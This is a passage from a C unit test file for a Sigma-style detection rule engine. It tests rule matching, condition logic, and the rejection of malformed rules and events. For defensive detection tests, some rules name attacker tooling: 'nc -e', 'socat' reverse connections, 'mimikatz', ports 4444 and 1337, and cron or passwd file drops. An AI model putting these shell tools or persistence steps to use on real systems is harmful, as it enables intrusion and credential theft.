	{"all of numeric tests, one false", "network_connection", "x1:\n    DestinationPort|gt: 1000\nx2:\n    DestinationPort|lt: 2000\nx3:\n    DestinationPort|gte: 1600\ncondition: all of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500"}, 0},
	{"1 of numeric tests and a lazy one", "network_connection", "x1:\n    DestinationPort|gt: 3000\nx2:\n    DestinationPort|lt: 1000\nx3:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: 1 of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500", "DestinationIp", "10.1.2.3"}, 1},
	{"1 of numeric tests, none", "network_connection", "x1:\n    DestinationPort|gt: 3000\nx2:\n    DestinationPort|lt: 1000\nx3:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: 1 of x*", RF_CLASS_NET_CONNECT, {"DestinationPort", "1500", "DestinationIp", "11.1.2.3"}, 0},
	{"port list, other port", "network_connection", "sel:\n    DestinationPort: [4444, 1337]\ncondition: sel", RF_CLASS_NET_CONNECT, {"DestinationPort", "80"}, 0},
	{"accept is network_connection too", "network_connection", "sel:\n    SourcePort: 22\ncondition: sel", RF_CLASS_NET_ACCEPT, {"SourcePort", "22"}, 1},
	/* file events: all three classes */
	{"file_event: lazy startswith beside a contains trigger", "file_event", "dir:\n    TargetFilename|startswith: ['/tmp/', '/var/tmp/']\nname:\n    TargetFilename|contains: ['passwd', 'shadow']\nfilter:\n    Image|endswith: ['/passwd', '/vipw']\ncondition: dir and name and not filter", RF_CLASS_FILE_CREATE, {"TargetFilename", "/tmp/passwd.bak", "Image", "/usr/bin/cp"}, 1},
	{"file_event: lazy startswith, other directory", "file_event", "dir:\n    TargetFilename|startswith: ['/tmp/', '/var/tmp/']\nname:\n    TargetFilename|contains: ['passwd', 'shadow']\nfilter:\n    Image|endswith: ['/passwd', '/vipw']\ncondition: dir and name and not filter", RF_CLASS_FILE_CREATE, {"TargetFilename", "/home/passwd.bak", "Image", "/usr/bin/cp"}, 0},
	{"file_event create", "file_event", "sel:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: sel", RF_CLASS_FILE_CREATE, {"TargetFilename", "/etc/cron.d/evil"}, 1},
	{"file_event write", "file_event", "sel:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: sel", RF_CLASS_FILE_OPEN_WRITE, {"TargetFilename", "/etc/cron.d/evil"}, 1},
	{"file_event rename", "file_event", "sel:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: sel", RF_CLASS_FILE_RENAME, {"TargetFilename", "/etc/cron.d/evil", "SourceFilename", "/tmp/x"}, 1},
	{"file_event unlink is not file_event", "file_event", "sel:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: sel", RF_CLASS_FILE_UNLINK, {"TargetFilename", "/etc/cron.d/evil"}, 0},
	{"field only some classes have", "file_event", "sel:\n    SourceFilename|startswith: /tmp/\ncondition: sel", RF_CLASS_FILE_CREATE, {"TargetFilename", "/tmp/x"}, 0},
	{"process rule ignores file events", NULL, "sel:\n    Image: /bin/sh\ncondition: sel", RF_CLASS_FILE_CREATE, {"Image", "/bin/sh"}, 0},
	/* keywords */
	{"keywords list", NULL, "keywords:\n    - 'nc -e'\n    - 'socat'\ncondition: keywords", 0, {CMD("ncat x; socat tcp:1.2.3.4")}, 1},
	{"keywords none", NULL, "keywords:\n    - 'nc -e'\n    - 'socat'\ncondition: keywords", 0, {CMD("ls -l")}, 0},
	{"keywords search every field", NULL, "keywords:\n    - 'evilcwd'\ncondition: keywords", 0, {CMD("ls"), "CurrentDirectory", "/home/evilcwd"}, 1},
	{"keywords |all", NULL, "keywords:\n    '|all':\n        - 'alpha'\n        - 'beta'\ncondition: keywords", 0, {CMD("alpha x"), "CurrentDirectory", "/beta"}, 1},
	{"keywords |all, one missing", NULL, "keywords:\n    '|all':\n        - 'alpha'\n        - 'gamma'\ncondition: keywords", 0, {CMD("alpha x"), "CurrentDirectory", "/beta"}, 0},
	{"single keyword", NULL, "kw: 'mimikatz'\ncondition: kw", 0, {CMD("./mimikatz x")}, 1},
	/* conditions */
	{"and", NULL, "a:\n    Image|endswith: /sh\nb:\n    User: root\ncondition: a and b", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"and, one false", NULL, "a:\n    Image|endswith: /sh\nb:\n    User: root\ncondition: a and b", 0, {EXE("/bin/sh"), "User", "alice"}, 0},
	{"or", NULL, "a:\n    Image|endswith: /zsh\nb:\n    User: root\ncondition: a or b", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"or, both false", NULL, "a:\n    Image|endswith: /zsh\nb:\n    User: root\ncondition: a or b", 0, {EXE("/bin/sh"), "User", "bob"}, 0},
	{"not", NULL, "a:\n    Image|endswith: /zsh\ncondition: not a", 0, {EXE("/bin/sh")}, 1},
	{"not, true", NULL, "a:\n    Image|endswith: /sh\ncondition: not a", 0, {EXE("/bin/sh")}, 0},
	{"and not", NULL, "sel:\n    Image|endswith: /sh\nfilter:\n    User: root\ncondition: sel and not filter", 0, {EXE("/bin/sh"), "User", "alice"}, 1},
	{"and not, filtered", NULL, "sel:\n    Image|endswith: /sh\nfilter:\n    User: root\ncondition: sel and not filter", 0, {EXE("/bin/sh"), "User", "root"}, 0},
	{"precedence: and binds tighter than or", NULL, "a:\n    User: x\nb:\n    User: root\nc:\n    Image: /nope\ncondition: a or b and c", 0, {EXE("/bin/sh"), "User", "root"}, 0},
	{"parentheses", NULL, "a:\n    User: x\nb:\n    User: root\nc:\n    Image: /nope\ncondition: (a or b) and not c", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"not binds tighter than and", NULL, "a:\n    User: x\nb:\n    User: root\ncondition: not a and b", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"nested parentheses", NULL, "a:\n    User: root\nb:\n    Image: /bin/sh\ncondition: ((a) and (not (not b)))", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"1 of pattern", NULL, "sel_a:\n    User: x\nsel_b:\n    User: root\ncondition: 1 of sel_*", 0, {"User", "root"}, 1},
	{"1 of pattern, none", NULL, "sel_a:\n    User: x\nsel_b:\n    User: y\ncondition: 1 of sel_*", 0, {"User", "root"}, 0},
	{"all of pattern", NULL, "sel_a:\n    User: root\nsel_b:\n    Image: /bin/sh\nother:\n    User: nobody\ncondition: all of sel_*", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"all of pattern, one false", NULL, "sel_a:\n    User: root\nsel_b:\n    Image: /bin/zsh\ncondition: all of sel_*", 0, {EXE("/bin/sh"), "User", "root"}, 0},
	{"1 of them", NULL, "a:\n    User: x\nb:\n    User: root\ncondition: 1 of them", 0, {"User", "root"}, 1},
	{"all of them", NULL, "a:\n    User: root\nb:\n    Image: /bin/sh\ncondition: all of them", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"all of them excludes _ids", NULL, "a:\n    User: root\n_b:\n    Image: /nope\ncondition: all of them", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"1 of them excludes _ids", NULL, "a:\n    User: x\n_b:\n    User: root\ncondition: 1 of them", 0, {"User", "root"}, 0},
	{"2 of pattern", NULL, "s1:\n    User: root\ns2:\n    Image: /bin/sh\ns3:\n    Image: /nope\ncondition: 2 of s*", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"2 of pattern, one true", NULL, "s1:\n    User: root\ns2:\n    Image: /bin/zsh\ns3:\n    Image: /nope\ncondition: 2 of s*", 0, {EXE("/bin/sh"), "User", "root"}, 0},
	{"not 1 of", NULL, "sel:\n    User: root\nfilter_a:\n    Image: /x\nfilter_b:\n    Image: /y\ncondition: sel and not 1 of filter_*", 0, {EXE("/bin/sh"), "User", "root"}, 1},
	{"condition list is OR", NULL, "a:\n    User: x\nb:\n    User: root\ncondition:\n    - a\n    - b", 0, {"User", "root"}, 1},
};

static void test_cases(void **state)
{
	size_t i;
	int bad = 0;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int hs = run_case(&cases[i], RF_DETECT_HYPERSCAN) > 0;
		int nv = run_case(&cases[i], RF_DETECT_NAIVE) > 0;
		if (hs != cases[i].expect || nv != cases[i].expect) {
			fprintf(stderr, "case '%s': expected %s, matcher says %d, naive evaluator says %d\n",
				cases[i].what, cases[i].expect ? "a match" : "no match", hs, nv);
			bad++;
		}
	}
	if (bad)
		fail_msg("%d of %zu cases failed", bad, sizeof(cases) / sizeof(cases[0]));
}

/* ---- rejections: every one names the reason (and where it can, the line) -------- */

struct rcase {
	const char *what;
	const char *text;     /* a whole YAML file */
	int status;           /* RF_RULE_INVALID / RF_RULE_UNSUPPORTED */
	const char *reason;   /* substring of the reason */
	unsigned line;        /* 0: do not check */
};

#define HDR "title: t\nlogsource: {product: linux, category: process_creation}\n"

static const struct rcase rejects[] = {
	{"unknown field", HDR "detection:\n  sel:\n    NoSuchField: x\n  condition: sel\n", RF_RULE_INVALID, "field 'NoSuchField' does not exist in the event schema", 5},
	{"field of another category", HDR "detection:\n  sel:\n    TargetFilename: x\n  condition: sel\n", RF_RULE_INVALID, "does not exist in the event schema for category process_creation", 5},
	{"unknown modifier", HDR "detection:\n  sel:\n    Image|sortof: x\n  condition: sel\n", RF_RULE_INVALID, "unknown modifier 'sortof'", 5},
	{"re flag without re", HDR "detection:\n  sel:\n    Image|i: x\n  condition: sel\n", RF_RULE_INVALID, "must follow 're'", 5},
	{"conflicting modifiers", HDR "detection:\n  sel:\n    Image|contains|re: x\n  condition: sel\n", RF_RULE_INVALID, "conflicting modifiers", 5},
	{"exists takes a boolean", HDR "detection:\n  sel:\n    Image|exists: maybe\n  condition: sel\n", RF_RULE_INVALID, "'exists' takes true or false", 5},
	{"cidr on a string field", HDR "detection:\n  sel:\n    Image|cidr: 10.0.0.0/8\n  condition: sel\n", RF_RULE_INVALID, "not an IP address", 5},
	{"bad cidr", "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  sel:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: sel\n", RF_RULE_INVALID, "not a network in CIDR notation", 5},
	{"lt needs an integer", HDR "detection:\n  sel:\n    ProcessId|lt: ten\n  condition: sel\n", RF_RULE_INVALID, "is not an integer", 5},
	{"fieldref to unknown field", HDR "detection:\n  sel:\n    Image|fieldref: Nope\n  condition: sel\n", RF_RULE_INVALID, "fieldref: field 'Nope'", 5},
	{"fieldref with re", HDR "detection:\n  sel:\n    Image|fieldref|re: User\n  condition: sel\n", RF_RULE_INVALID, "'fieldref' combines only", 5},
	{"base64 and re", HDR "detection:\n  sel:\n    Image|base64|re: x\n  condition: sel\n", RF_RULE_INVALID, "base64 modifiers apply to strings only", 5},
	{"empty value list", HDR "detection:\n  sel:\n    Image: []\n  condition: sel\n", RF_RULE_INVALID, "empty value list", 5},
	{"map as value", HDR "detection:\n  sel:\n    Image: {a: b}\n  condition: sel\n", RF_RULE_INVALID, "not a map", 5},
	{"nested list value", HDR "detection:\n  sel:\n    Image: [[a]]\n  condition: sel\n", RF_RULE_INVALID, "must be a scalar", 5},
	{"list mixing maps and keywords", HDR "detection:\n  sel:\n    - Image: x\n    - keyword\n  condition: sel\n", RF_RULE_INVALID, "mixes maps and keywords", 5},
	{"keyword null", HDR "detection:\n  kw:\n    - null\n  condition: kw\n", RF_RULE_INVALID, "keyword cannot be null", 5},
	{"no condition", HDR "detection:\n  sel:\n    Image: x\n", RF_RULE_INVALID, "no condition", 4},
	{"unknown identifier", HDR "detection:\n  sel:\n    Image: x\n  condition: sel and other\n", RF_RULE_INVALID, "unknown search identifier 'other'", 6},
	{"missing parenthesis", HDR "detection:\n  sel:\n    Image: x\n  condition: (sel\n", RF_RULE_INVALID, "missing ')'", 6},
	{"stray parenthesis", HDR "detection:\n  sel:\n    Image: x\n  condition: sel)\n", RF_RULE_INVALID, "unexpected ')'", 6},
	{"dangling and", HDR "detection:\n  sel:\n    Image: x\n  condition: sel and\n", RF_RULE_INVALID, "expected a search identifier", 6},
	{"of without pattern", HDR "detection:\n  sel:\n    Image: x\n  condition: 1 of\n", RF_RULE_INVALID, "after 'of'", 6},
	{"all without of", HDR "detection:\n  sel:\n    Image: x\n  condition: all sel\n", RF_RULE_INVALID, "expected 'of'", 6},
	{"pattern matching nothing", HDR "detection:\n  sel:\n    Image: x\n  condition: 1 of filter_*\n", RF_RULE_INVALID, "matches no search identifier", 6},
	{"0 of", HDR "detection:\n  sel:\n    Image: x\n  condition: 0 of sel\n", RF_RULE_INVALID, "N >= 1", 6},
	{"aggregation", HDR "detection:\n  sel:\n    Image: x\n  condition: sel | count() > 5\n", RF_RULE_UNSUPPORTED, "aggregation", 6},
	{"timeframe", HDR "detection:\n  sel:\n    Image: x\n  timeframe: 5m\n  condition: sel\n", RF_RULE_UNSUPPORTED, "timeframe", 6},
	{"utf16 modifier", HDR "detection:\n  sel:\n    CommandLine|wide|base64: x\n  condition: sel\n", RF_RULE_UNSUPPORTED, "UTF-16", 5},
	{"expand modifier", HDR "detection:\n  sel:\n    User|expand: '%Admins%'\n  condition: sel\n", RF_RULE_UNSUPPORTED, "placeholders", 5},
	{"no title", "logsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_INVALID, "no 'title'", 1},
	{"no detection", HDR, RF_RULE_INVALID, "no 'detection'", 1},
	{"no logsource", "title: t\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_INVALID, "no 'logsource'", 1},
	{"bad level", HDR "level: severe\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_INVALID, "level 'severe'", 3},
	{"service", "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: EXECVE\n  condition: sel\n", RF_RULE_UNSUPPORTED, "service 'auditd'", 2},
	{"other product", "title: t\nlogsource: {product: windows, category: process_creation}\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_UNSUPPORTED, "product 'windows'", 2},
	{"unfed category", "title: t\nlogsource: {product: linux, category: registry_event}\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_UNSUPPORTED, "category 'registry_event'", 2},
	{"not a map", "- a\n- b\n", RF_RULE_INVALID, "must be a YAML map", 1},
	{"YAML syntax error", "title: [unclosed\n", RF_RULE_INVALID, "YAML", 0},
	{"empty file", "", RF_RULE_INVALID, "empty file", 1},
	{"identifier with a space", HDR "detection:\n  'my sel':\n    Image: x\n  condition: sel\n", RF_RULE_INVALID, "holds a space", 4},
	{"deep condition", HDR "detection:\n  sel:\n    Image: x\n  condition: ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((sel))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))\n", RF_RULE_INVALID, "nested deeper", 6},
	{"correlation: unknown type", "title: c\ncorrelation:\n  type: magic\n  rules: [a]\n  timespan: 5m\n", RF_RULE_INVALID, "unknown correlation type 'magic'", 3},
	{"correlation: unsupported type", "title: c\ncorrelation:\n  type: value_sum\n  rules: [a]\n  timespan: 5m\n", RF_RULE_UNSUPPORTED, "value_sum", 3},
	{"correlation: no rules", "title: c\ncorrelation:\n  type: event_count\n  timespan: 5m\n  condition: {gte: 2}\n", RF_RULE_INVALID, "no 'rules'", 3},
	{"correlation: no timespan", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  condition: {gte: 2}\n", RF_RULE_INVALID, "no 'timespan'", 3},
	{"correlation: bad timespan", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 5w\n  condition: {gte: 2}\n", RF_RULE_INVALID, "timespan '5w'", 5},
	{"correlation: no condition", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 5m\n", RF_RULE_INVALID, "needs a condition", 3},
	{"correlation: bad condition", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 5m\n  condition: {about: 3}\n", RF_RULE_INVALID, "unknown correlation condition 'about'", 6},
	{"correlation: value_count without field", "title: c\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 5m\n  condition: {gte: 3}\n", RF_RULE_INVALID, "needs 'field'", 3},
	{"correlation: temporal with one rule", "title: c\ncorrelation:\n  type: temporal\n  rules: [a]\n  timespan: 5m\n", RF_RULE_INVALID, "at least two rules", 4},
	{"correlation: threshold above limit", "title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 5m\n  condition: {gte: 100000}\n", RF_RULE_UNSUPPORTED, "threshold above", 6},
	{"correlation: unknown rule", "title: c\ncorrelation:\n  type: event_count\n  rules: [nosuchrule]\n  group-by: [User]\n  timespan: 5m\n  condition: {gte: 3}\n", RF_RULE_INVALID, "not loaded", 0},
	{"correlation: group-by field unknown", "title: c\ncorrelation:\n  type: event_count\n  rules: [base]\n  group-by: [Hostname]\n  timespan: 5m\n  condition: {gte: 3}\n---\ntitle: b\nname: base\n" "logsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image: x\n  condition: sel\n", RF_RULE_INVALID, "field 'Hostname' does not exist", 0},
};

static void test_rejections(void **state)
{
	size_t i;
	int bad = 0;

	(void)state;
	for (i = 0; i < sizeof(rejects) / sizeof(rejects[0]); i++) {
		const struct rcase *c = &rejects[i];
		struct rf_detect_report rep = {0};
		struct rf_detect *d = rf_detect_new();
		const struct rf_detect_status *s;

		assert_non_null(d);
		rf_detect_load_buffer(d, "reject.yml", c->text, strlen(c->text), &rep);
		assert_int_equal(rf_detect_compile(d, RF_DETECT_HYPERSCAN, &rep), 0);
		assert_true(rep.n >= 1);
		s = &rep.v[0];
		if (s->status != c->status || !s->reason || !strstr(s->reason, c->reason) ||
		    (c->line && s->line != c->line)) {
			fprintf(stderr, "reject '%s': got %s at line %u: %s (wanted %s, line %u, '%s')\n", c->what,
				rf_detect_status_name(s->status), s->line, s->reason ? s->reason : "(none)",
				rf_detect_status_name(c->status), c->line, c->reason);
			bad++;
		}
		if (rep.compiled != 0 && strncmp(c->what, "correlation: group-by", 21) != 0) {
			fprintf(stderr, "reject '%s': something compiled\n", c->what);
			bad++;
		}
		rf_detect_free(d);
		rf_detect_report_free(&rep);
	}
	if (bad)
		fail_msg("%d of %zu rejection cases failed", bad, sizeof(rejects) / sizeof(rejects[0]));
}

/* A bad rule is reported while the others in the same file load. */
static void test_bad_rule_does_not_stop_others(void **state)
{
	static const char text[] =
		HDR "detection:\n  sel:\n    Image: /bin/a\n  condition: sel\n---\n"
		HDR "detection:\n  sel:\n    Nope: x\n  condition: sel\n---\n"
		HDR "detection:\n  sel:\n    Image: /bin/b\n  condition: sel\n";
	struct rf_detect_report rep = {0};
	struct rf_detect *d = rf_detect_new();

	(void)state;
	rf_detect_load_buffer(d, "multi.yml", text, sizeof(text) - 1, &rep);
	assert_int_equal(rf_detect_compile(d, RF_DETECT_HYPERSCAN, &rep), 0);
	assert_int_equal(rep.compiled, 2);
	assert_int_equal(rep.invalid, 1);
	assert_int_equal(rep.v[1].status, RF_RULE_INVALID);
	assert_int_equal(rep.v[1].line, 12); /* the line of "Nope" */
	rf_detect_free(d);
	rf_detect_report_free(&rep);
}

/* A pattern Hyperscan refuses makes its rule invalid; the others still run. */
static void test_hyperscan_refusal(void **state)
{
	static const char text[] =
		HDR "detection:\n  sel:\n    CommandLine|re: 'a(?=b)'\n  condition: sel\n---\n"
		HDR "detection:\n  sel:\n    CommandLine|contains: zzz\n  condition: sel\n";
	struct rf_detect_report rep = {0};
	struct rf_detect *d = rf_detect_new();
	unsigned char buf[512];
	const char *kv[] = {"CommandLine", "x zzz"};
	int hits = 0, n;

	(void)state;
	rf_detect_load_buffer(d, "hs.yml", text, sizeof(text) - 1, &rep);
	assert_int_equal(rf_detect_compile(d, RF_DETECT_HYPERSCAN, &rep), 0);
	assert_int_equal(rep.compiled, 1);
	assert_int_equal(rep.invalid, 1);
	assert_non_null(strstr(rep.v[0].reason, "refused by Hyperscan"));
	n = rf_detect_synth(buf, sizeof(buf), RF_CLASS_PROCESS_EXEC, kv, 2);
	assert_int_equal(rf_detect_event(d, (void *)buf, (size_t)n, count_hit, &hits), 1);
	rf_detect_free(d);
	rf_detect_report_free(&rep);
}

/* Events that do not validate are refused, not read. */
static void test_bad_event(void **state)
{
	static const char text[] = HDR "detection:\n  sel:\n    Image|contains: x\n  condition: sel\n";
	struct rf_detect_report rep = {0};
	struct rf_detect *d = rf_detect_new();
	unsigned char buf[512];
	const char *kv[] = {"Image", "/x"};
	int n;

	(void)state;
	rf_detect_load_buffer(d, "e.yml", text, sizeof(text) - 1, &rep);
	assert_int_equal(rf_detect_event(d, (void *)buf, 0, NULL, NULL), -EALREADY);
	assert_int_equal(rf_detect_compile(d, RF_DETECT_HYPERSCAN, &rep), 0);
	n = rf_detect_synth(buf, sizeof(buf), RF_CLASS_PROCESS_EXEC, kv, 2);
	assert_int_equal(rf_detect_event(d, (void *)buf, (size_t)n - 1, NULL, NULL), -EINVAL);
	((struct rf_event_hdr *)buf)->class_id = 63;
	assert_int_equal(rf_detect_event(d, (void *)buf, (size_t)n, NULL, NULL), -EINVAL);
	rf_detect_free(d);
	rf_detect_report_free(&rep);
	rf_detect_free(NULL);
	rf_detect_report_free(NULL);
}

/* Regular expressions the naive evaluator (POSIX regex.h) cannot express are
 * reported unsupported in naive mode, never silently mistranslated. */
static void test_naive_regex_refusals(void **state)
{
	static const char *const res[] = {"a(?=b)", "a*?b", "a++", "x{,3}", "x{a}", "[a\\]b]", "[a\\-z]",
					  "\\1", "\\Aabc", "(?i)abc"};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(res) / sizeof(res[0]); i++) {
		char text[512];
		struct rf_detect_report rep = {0};
		struct rf_detect *d = rf_detect_new();
		snprintf(text, sizeof(text), HDR "detection:\n  sel:\n    CommandLine|re: '%s'\n  condition: sel\n", res[i]);
		rf_detect_load_buffer(d, "re.yml", text, strlen(text), &rep);
		assert_int_equal(rf_detect_compile(d, RF_DETECT_NAIVE, &rep), 0);
		if (rep.unsupported != 1 || !strstr(rep.v[0].reason, "no POSIX equivalent"))
			fail_msg("regex '%s': %s", res[i], rep.n ? rep.v[0].reason : "(no report)");
		rf_detect_free(d);
		rf_detect_report_free(&rep);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cases),
		cmocka_unit_test(test_rejections),
		cmocka_unit_test(test_bad_rule_does_not_stop_others),
		cmocka_unit_test(test_hyperscan_refusal),
		cmocka_unit_test(test_bad_event),
		cmocka_unit_test(test_naive_regex_refusals),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
